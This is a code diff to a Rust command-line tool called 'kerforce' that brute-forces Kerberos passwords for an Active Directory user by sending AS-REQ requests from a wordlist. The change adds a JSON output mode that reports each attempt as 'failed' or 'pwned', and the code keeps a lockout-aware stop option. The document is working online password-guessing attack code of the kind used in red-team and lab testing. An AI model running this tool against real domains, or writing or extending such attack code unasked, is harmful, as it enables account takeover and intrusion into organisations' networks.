@@ -5,13 +5,26 @@ use clap::{App, Arg};
 use std::fs::File;
 use std::io;
 use std::io::BufRead;
-use kerlab::krbkdcreq::{AsReq, KdcOptionsType};
+use kerlab::krbkdcreq::AsReq;
+use kerlab::base::KdcOptionsType;
 use kerlab::request::{KrbResponse, TcpRequest};
 use kerlab::krbkdcrep::AsRep;
 use kerlab::encryption::{EncryptionKey};
+use kerlab::json::{Json, error_code_name};
 
 const APPLICATION_NAME: &str = "kerforce";
 
+/// Result of one password
+fn attempt(domain: &str, username: &str, password: &str, error_code: Option<u32>) -> Json {
+    Json::object(vec![
+        ("domain", Json::string(domain)),
+        ("username", Json::string(username)),
+        ("password", Json::string(password)),
+        ("result", Json::string(if error_code.is_some() { "failed" } else { "pwned" })),
+        ("error", error_code.map_or(Json::Null, |code| Json::named(code as i64, error_code_name(code))))
+    ])
+}
+
 fn main() {
     let matches = App::new(APPLICATION_NAME)
         .version("0.1.0")
@@ -41,6 +54,9 @@ fn main() {
         .arg(Arg::with_name("safe")
                  .long("safe")
                  .help("Stop when account it's first locked"))
+        .arg(Arg::with_name("json")
+                 .long("json")
+                 .help("Print one JSON object per attempt"))
         .get_matches();
 
     let file = File::open(matches.value_of("file").unwrap()).unwrap();
@@ -48,9 +64,11 @@ fn main() {
     let port = matches.value_of("port").unwrap_or_default();
     let username = matches.value_of("username").unwrap();
     let domain = matches.value_of("domain").unwrap();
+    let json = matches.is_present("json");
 
-
-    println!("Try brute force user {}\\{}", domain, username);
+    if !json {
+        println!("Try brute force user {}\\{}", domain, username);
+    }
     let options = vec![
         KdcOptionsType::Renewable,
         KdcOptionsType::RenewableOk
@@ -75,13 +93,21 @@ fn main() {
 
         match tgt_response {
             KrbResponse::Error(e) => {
-                println!("Failed {} {}", password, e.error_code.inner);
+                if json {
+                    println!("{}", attempt(domain, username, &password, Some(e.error_code.inner)));
+                } else {
+                    println!("Failed {} {}", password, e.error_code.inner);
+                }
                 if matches.is_present("safe") && e.error_code.inner == 18 {
                     break;
                 }
             }
             KrbResponse::Response(_) => {
-                println!("Pwned !!! {}\\{} : {}", domain, username, password);
+                if json {
+                    println!("{}", attempt(domain, username, &password, None));
+                } else {
+                    println!("Pwned !!! {}\\{} : {}", domain, username, password);
+                }
                 break;
             }
         }